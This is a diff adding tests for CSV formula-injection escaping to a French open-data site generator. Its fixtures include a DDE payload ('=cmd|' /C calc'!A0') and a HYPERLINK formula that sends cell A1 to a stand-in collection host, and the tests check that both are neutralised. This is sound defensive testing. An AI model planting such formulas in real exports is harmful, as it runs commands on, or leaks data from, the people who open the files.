@@ -18,6 +18,7 @@ from frictionless import validate
 from lxml import html as lxml_html
 
 from conftest import REPO, copy_project, mkdocs_build
+from generator.outputs.opendata_schemas import FORMULA_CLASS, FORMULA_START, as_text
 from test_chrome import PUBLISHER, _configure
 
 TABLES = ["appels", "appels-etapes", "regions", "ressources", "lieux"]
@@ -346,6 +347,125 @@ def test_the_open_data_page_lists_every_file_with_its_schemas(built_site):
     content = text(tree)
     assert "Licence Ouverte / Open Licence version 2.0" in content
     assert "aid_min — Aide minimale par projet" in content
+
+
+# --- no cell a spreadsheet would run ------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://collecte.example/?"&A1;"Cliquez ici")'
+DDE = "=cmd|' /C calc'!A0"
+PHONE = "+33 2 99 27 10 10"
+FORMULA_PROVIDER = f"""\
+name: "@Fabrique"
+kind: tiers-lieu
+summary: "-20 % pour les membres."
+place:
+  city: Rennes
+  latitude: 48.11
+  longitude: -1.68
+opening_hours: "{DDE}"
+contact:
+  email: "+contact@exemple.fr"
+  phone: "{PHONE}"
+last_updated: 2025-01-10
+"""
+FORMULA_RESOURCE = f"""\
+---
+title: Casques de réalité virtuelle
+type: equipement
+provider: fabrique
+summary: '{HYPERLINK.replace("'", "''")}'
+fees: Payant
+booking:
+  contact:
+    phone: "{PHONE}"
+last_updated: 2025-01-10
+---
+"""
+FORMULA_CALL = f"""\
+---
+title: "+ de tiers-lieux"
+summary: Un appel pour les tests.
+contacts:
+  - name: Service formation
+    phone: "{PHONE}"
+sources:
+  - title: Page de la région
+    publisher: region.fr
+last_checked: 2025-01-10
+---
+"""
+
+
+def test_the_characters_that_begin_a_formula_are_those_owasp_lists():
+    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r", "\n")
+    assert all(re.fullmatch(FORMULA_CLASS, start) for start in FORMULA_START)
+    assert [as_text(value) for value in ("=1+2", "\t=1", "\n-1", "Rennes", "", "'=déjà")] == [
+        "'=1+2", "'\t=1", "'\n-1", "Rennes", "", "'=déjà"]
+
+
+@pytest.fixture(scope="module")
+def formula_site(tmp_path_factory) -> Path:
+    """A site whose texts begin as spreadsheet formulas do, and whose phone numbers begin with +."""
+    regions = tmp_path_factory.mktemp("formula-content") / "regions"
+    (regions / "bretagne").mkdir(parents=True)
+    shutil.copy(REPO / "regions/bretagne/region.yml", regions / "bretagne/region.yml")
+    for folder, name, text_ in (("calls", "plus.md", FORMULA_CALL), ("providers", "fabrique.yml", FORMULA_PROVIDER),
+                                ("resources", "casques.md", FORMULA_RESOURCE)):
+        (regions / "bretagne" / folder).mkdir()
+        (regions / "bretagne" / folder / name).write_text(text_, encoding="utf-8")
+    project = copy_project(tmp_path_factory.mktemp("formula"), regions, BUILD_DAY)
+    result = mkdocs_build(project)
+    assert result.returncode == 0, result.stdout + result.stderr
+    return project / "site"
+
+
+def test_a_csv_cell_that_would_run_as_a_formula_starts_with_a_quote_and_the_json_keeps_the_value(formula_site):
+    calls, resources, providers = (read_csv(formula_site, name) for name in ("appels", "ressources", "lieux"))
+    assert calls[0]["title"] == "'+ de tiers-lieux"
+    assert resources[0]["summary"] == "'" + HYPERLINK
+    assert resources[0]["booking_contact_phone"] == "'" + PHONE
+    assert providers[0]["horaires"] == "'" + DDE
+    assert providers[0]["nom"] == "'@Fabrique"
+    assert providers[0]["summary"] == "'-20 % pour les membres."
+    assert providers[0]["contact_email"] == "'+contact@exemple.fr"
+    assert providers[0]["contact_phone"] == "'" + PHONE
+    # Numbers stay numbers, negative ones too; a list in JSON text begins with its bracket.
+    assert providers[0]["longitude"] == "-1.68"
+    assert json.loads(calls[0]["contacts"])[0]["phone"] == PHONE
+    for name in TABLES:
+        for row in read_csv(formula_site, name):
+            for column, value in row.items():
+                assert not value.startswith(("=", "+", "@", "\t", "\r", "\n")), (name, column, value)
+                assert not value.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", value), (name, column, value)
+    # The JSON files are exact: no mark.
+    assert read_json(formula_site, "appels.json")["donnees"][0]["title"] == "+ de tiers-lieux"
+    assert read_json(formula_site, "ressources.json")["donnees"][0]["summary"] == HYPERLINK
+    assert read_json(formula_site, "ressources.json")["donnees"][0]["booking_contact_phone"] == PHONE
+    provider = read_json(formula_site, "lieux.json")["donnees"][0]
+    assert (provider["horaires"], provider["contact_phone"]) == (DDE, PHONE)
+    assert read_json(formula_site, "lieux.geojson")["features"][0]["properties"]["horaires"] == DDE
+
+
+def test_the_marked_csv_still_validates_and_its_schemas_and_page_say_why(formula_site):
+    report = validate(str(folder(formula_site) / "datapackage.json"))
+    problems = [f"{task.name}: {error.type} {error.note}" for task in report.tasks for error in task.errors]
+    assert report.valid, "\n".join(problems)
+    for name in TABLES:  # and the JSON against its own schema, with its exact values
+        data = read_json(formula_site, f"{name}.json")
+        assert list(jsonschema.Draft202012Validator(read_json(formula_site, data["$schema"])).iter_errors(data)) == []
+    fields = {field["name"]: field for field in read_json(formula_site, "lieux.tableschema.json")["fields"]}
+    for name in ("nom", "horaires", "contact_phone", "contact_email"):
+        assert "précédée d'une apostrophe (')" in fields[name]["description"], name
+    for name in ("id", "code_postal", "longitude", "date_maj", "site_web", "kind"):
+        assert "apostrophe" not in fields[name]["description"], name
+    # The pattern of a phone number lets the mark in, only before a character that needs it.
+    pattern = re.compile(fields["contact_phone"]["constraints"]["pattern"])
+    assert pattern.fullmatch("'" + PHONE) and pattern.fullmatch("02 99 27 10 10")
+    assert not pattern.fullmatch("'02 99 27 10 10")
+    tree = page(formula_site, "donnees-ouvertes")
+    explanation = text(tree.xpath('//*[@id="tableur"]')[0])
+    assert "précédé d'une apostrophe" in explanation and "+33" in explanation and "JSON" in explanation
+    assert tree.xpath('//dd//a[@href="#tableur"]')  # each such column links to it
 
 
 # --- the comparison page ---------------------------------------------------------------------
